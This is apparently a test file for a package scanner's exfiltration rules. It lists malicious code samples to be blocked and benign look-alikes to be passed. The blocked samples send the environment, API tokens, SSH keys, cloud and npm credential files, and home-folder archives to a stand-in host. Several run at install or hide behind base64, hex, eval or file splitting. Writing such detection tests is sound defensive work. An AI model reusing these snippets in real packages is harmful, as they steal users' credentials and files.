import { asCommand, atInstall, base64, describeVerdicts, hex } from "../../support/verdicts.ts";

const url = "https://files.example.test/c";

describeVerdicts("EXF-01", {
  blocks: {
    "a request at load": `fetch("${url}", { method: "POST", body: JSON.stringify(process.env) });`,
    "a request at install": atInstall(
      `const https = require("https");
       const data = JSON.stringify(process.env);
       const req = https.request({ hostname: "files.example.test", method: "POST", path: "/c" });
       req.write(data);
       req.end();`,
    ),
    "under other names": `
      const p = globalThis["process"];
      const { env: e } = p;
      const copy = { ...e };
      const send = globalThis.fetch;
      send("${url}", { method: "POST", body: Buffer.from(JSON.stringify(copy)).toString("base64") });`,
    "split over files": {
      files: {
        "index.js": `const { collect } = require("./lib/a"); const send = require("./lib/b"); send(collect());`,
        "lib/a.js": `exports.collect = () => Object.entries(process.env).map(([k, v]) => k + "=" + v).join("\\n");`,
        "lib/b.js": `module.exports = (data) => require("https").request("${url}", { method: "POST" }).end(data);`,
      },
    },
    "with an encoded address and module": `
      const m = require(Buffer.from("${base64("https")}", "base64").toString());
      const host = Buffer.from("${hex("files.example.test")}", "hex").toString();
      const r = m.request({ hostname: host, path: "/", method: "POST" });
      r.write(JSON.stringify(process["e" + "nv"]));
      r.end();`,
    "in a loop over the keys": `
      let out = "";
      for (const key of Object.keys(process.env)) out += key + "=" + process.env[key] + "&";
      require("axios").post("${url}", out);`,
    "in an exported function": `
      exports.init = function () {
        fetch("${url}", { method: "POST", body: JSON.stringify({ env: process.env }) });
      };`,
    "handed to a command": atInstall(
      `const { execSync } = require("child_process");
       execSync("curl -d '" + JSON.stringify(process.env) + "' ${url}");`,
    ),
    "in a decoded layer": `eval(Buffer.from("${base64(
      `fetch("${url}",{method:"POST",body:JSON.stringify(process.env)})`,
    )}", "base64").toString());`,
    "as a module": {
      manifest: { type: "module" },
      files: {
        "index.js": `import { env } from "node:process"; await fetch("${url}", { method: "POST", body: JSON.stringify(env) });`,
      },
    },
    "through an emitter of the package, over three files": {
      manifest: { main: "a.mjs", type: "module" },
      files: {
        "a.mjs": `import bus from "./bus.mjs"; import "./b.mjs";
          bus.emit("ready", JSON.stringify({ ...process.env }));`,
        "bus.mjs": `import { EventEmitter } from "node:events"; export default new EventEmitter();`,
        "b.mjs": `import got from "got"; import bus from "./bus.mjs";
          bus.on("ready", async (body) => { await got.post("https://files.example.test/c", { body }); });`,
      },
    },
    "as a letter": `
      require("nodemailer").createTransport({ service: "gmail", auth: { user: "a@files.example", pass: "x" } })
        .sendMail({ to: "b@files.example", subject: "e", text: JSON.stringify(process.env) });`,
  },
  passes: {
    "the environment of a process": `
      const { spawn } = require("child_process");
      module.exports = (cmd) => spawn(cmd, { env: { ...process.env, FORCE_COLOR: "1" } });
      module.exports.version = () => fetch("${url}").then((r) => r.json());`,
    "names that are filtered": `
      const names = ["NODE_ENV", "CI"];
      module.exports = (to) => fetch(to, { method: "POST", body: JSON.stringify(names.map((n) => [n, process.env[n]])) });`,
    "the address of the caller": `
      module.exports = (to) => fetch(to, { method: "POST", body: JSON.stringify(process.env) });`,
    "a copy in memory and a plain request": `
      const config = Object.assign({}, process.env);
      exports.get = (key) => config[key];
      exports.latest = async () => (await fetch("${url}")).json();`,
    "a command that prints it": asCommand(`console.log(JSON.stringify(process.env, null, 2));`),
  },
});

describeVerdicts("EXF-02", {
  blocks: {
    "in a body": `fetch("${url}", { method: "POST", body: process.env.NPM_TOKEN });`,
    "in a header": `require("https").get({ hostname: "files.example.test", headers: { "x-id": process.env.AWS_SECRET_ACCESS_KEY } });`,
    "in the address": `fetch("${url}?t=" + process.env.GITHUB_TOKEN);`,
    "under other names": `
      const { GITHUB_TOKEN: a, NPM_TOKEN: b } = process.env;
      const payload = [a, b].filter(Boolean).join("|");
      require("axios")({ method: "post", url: "${url}", data: { payload } });`,
    "a name that is put together": `
      const k = ["NPM", "TOKEN"].join("_");
      const h = ["files", "example", "test"].join(".");
      fetch("https://" + h, { method: "POST", body: process.env[k] });`,
    "split over files": {
      files: {
        "index.js": `require("./send")(require("./read"));`,
        "read.js": `module.exports = process.env.AWS_ACCESS_KEY_ID + ":" + process.env.AWS_SECRET_ACCESS_KEY;`,
        "send.js": `module.exports = (x) => fetch("${url}", { method: "POST", body: x });`,
      },
    },
    encoded: `
      const name = Buffer.from("${base64("ANTHROPIC_API_KEY")}", "base64").toString();
      const to = Buffer.from("${base64(url)}", "base64").toString();
      fetch(to, { method: "POST", body: Buffer.from(process.env[name] ?? "").toString("hex") });`,
  },
  passes: {
    "a client of the service": `
      module.exports = (path) => fetch("https://api.github.com" + path, { headers: { authorization: "Bearer " + process.env.GITHUB_TOKEN } });`,
    "a client of a service of that name": `
      exports.ask = (q) => fetch("https://api.acme.test/v1", { method: "POST", body: q, headers: { "x-api-key": process.env.ACME_API_KEY } });`,
    "the caller's address": `
      module.exports = ({ baseUrl }) => fetch(baseUrl, { headers: { authorization: process.env.MY_TOKEN } });`,
    "only whether it is there": `
      const isCI = !!process.env.GITHUB_TOKEN;
      module.exports = () => fetch("${url}", { method: "POST", body: JSON.stringify({ isCI }) });`,
    "a token that is given back": `
      exports.token = () => process.env.NPM_TOKEN;
      exports.latest = () => fetch("${url}");`,
    "a crash reporter whose address is the secret": `
      let client;
      exports.init = ({ dsn = process.env.SENTRY_DSN } = {}) => { const u = new URL(dsn); client = { host: u.host, key: u.username }; };
      exports.capture = (e) => fetch(\`https://\${client.host}/api/1/store?key=\${client.key}\`, { method: "POST", body: e.stack });`,
  },
});

describeVerdicts("EXF-03", {
  blocks: {
    "a client's settings": `
      const fs = require("fs"), os = require("os"), path = require("path");
      const text = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
      fetch("${url}", { method: "POST", body: text });`,
    "at install, by stream": atInstall(
      `const fs = require("fs");
       const req = require("https").request("${url}", { method: "POST" });
       fs.createReadStream(process.env.HOME + "/.ssh/id_rsa").pipe(req);`,
    ),
    "a list of files": `
      const fs = require("fs"), os = require("os");
      const found = {};
      for (const name of [".aws/credentials", ".netrc", ".docker/config.json"]) {
        try { found[name] = fs.readFileSync(os.homedir() + "/" + name, "utf8"); } catch {}
      }
      require("axios").post("${url}", found);`,
    "under other names": `
      const { readFile: r } = require("node:fs/promises");
      const { homedir: h } = require("node:os");
      r(\`\${h()}/.kube/config\`, "utf8").then((c) => fetch("${url}", { method: "POST", body: c }));`,
    "split over files": {
      files: {
        "index.js": `import { read } from "./a.mjs"; import { post } from "./b.mjs"; post(read());`,
        "a.mjs": `import fs from "fs"; import os from "os"; export const read = () => fs.readFileSync(os.homedir() + "/.git-credentials").toString("base64");`,
        "b.mjs": `export const post = (d) => fetch("${url}", { method: "POST", body: d });`,
        "package.json": JSON.stringify({ name: "sample", version: "1.0.0", type: "module" }),
      },
    },
    "an encoded path": `
      const p = Buffer.from("${base64("/.npmrc")}", "base64").toString();
      const f = require("fs").readFileSync(require("os").homedir() + p);
      fetch("${url}", { method: "POST", body: f });`,
    "through the helpers of a compiler": `
      const tslib_1 = require("tslib");
      const fs = tslib_1.__importStar(require("fs"));
      const axios_1 = tslib_1.__importDefault(require("axios"));
      tslib_1.__awaiter(this, void 0, void 0, function* () {
        yield axios_1.default.post("https://files.example.test/c", fs.readFileSync(".env", "utf8"));
      });`,
  },
  passes: {
    "a reader of settings": `
      const fs = require("fs"), os = require("os"), path = require("path");
      module.exports = () => fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");`,
    "a reader beside a plain request": `
      const fs = require("fs"), os = require("os"), path = require("path");
      exports.read = () => fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
      exports.ping = () => fetch("${url}");`,
    "a file of the package": `
      const text = require("fs").readFileSync(__dirname + "/data.json", "utf8");
      module.exports = (to) => fetch(to, { method: "POST", body: text });`,
    "a file that the caller names": `
      const fs = require("fs");
      exports.upload = (file, to) => fetch(to, { method: "PUT", body: fs.readFileSync(file) });`,
  },
});

describeVerdicts("EXF-04", {
  blocks: {
    "a walk through the home folder": `
      const fs = require("fs"), path = require("path"), os = require("os");
      function walk(dir) {
        for (const name of fs.readdirSync(dir)) {
          const full = path.join(dir, name);
          if (fs.statSync(full).isDirectory()) walk(full);
          else if (/\\.(env|pem|key)$/.test(name)) {
            fetch("${url}", { method: "POST", body: fs.readFileSync(full) });
          }
        }
      }
      walk(os.homedir());`,
    "a recursive listing": atInstall(
      `const fs = require("fs"), os = require("os");
       const files = fs.readdirSync(os.homedir(), { recursive: true }).filter((f) => f.endsWith(".docx"));
       for (const f of files) {
         const req = require("https").request("${url}", { method: "POST" });
         req.end(fs.readFileSync(os.homedir() + "/" + f));
       }`,
    ),
    "an archive by a command": atInstall(
      `require("child_process").execSync("tar czf - ~/Documents | curl -T - ${url}");`,
    ),
    "the home folder as one archive": `
      const cp = require("child_process"), os = require("os"), fs = require("fs");
      const to = os.tmpdir() + "/c.tgz";
      cp.execFileSync("tar", ["-czf", to, "-C", os.homedir(), "Documents", ".config"]);
      fetch("https://files.example.test/in", { method: "POST", body: fs.readFileSync(to) });`,
  },
  passes: {
    "a folder of the caller": `
      const fs = require("fs"), path = require("path");
      exports.upload = async (dir, to) => {
        for (const name of fs.readdirSync(dir, { recursive: true })) {
          await fetch(to, { method: "PUT", body: fs.readFileSync(path.join(dir, name)) });
        }
      };`,
    "templates of the package": `
      const fs = require("fs"), path = require("path");
      exports.all = () => fs.readdirSync(path.join(__dirname, "templates")).map((n) => fs.readFileSync(path.join(__dirname, "templates", n), "utf8"));`,
    "a search below the project": asCommand(
      `const fs = require("fs");
       for (const name of fs.readdirSync(process.cwd(), { recursive: true })) if (name.endsWith(".md")) console.log(name);`,
    ),
    "an archive of the caller's folder": `
      const cp = require("child_process"), fs = require("fs");
      exports.upload = (folder) => {
        cp.execFileSync("tar", ["-czf", "out.tgz", "-C", folder, "."]);
        return fetch("https://files.example.test/in", { method: "POST", body: fs.readFileSync("out.tgz") });
      };`,
  },
});
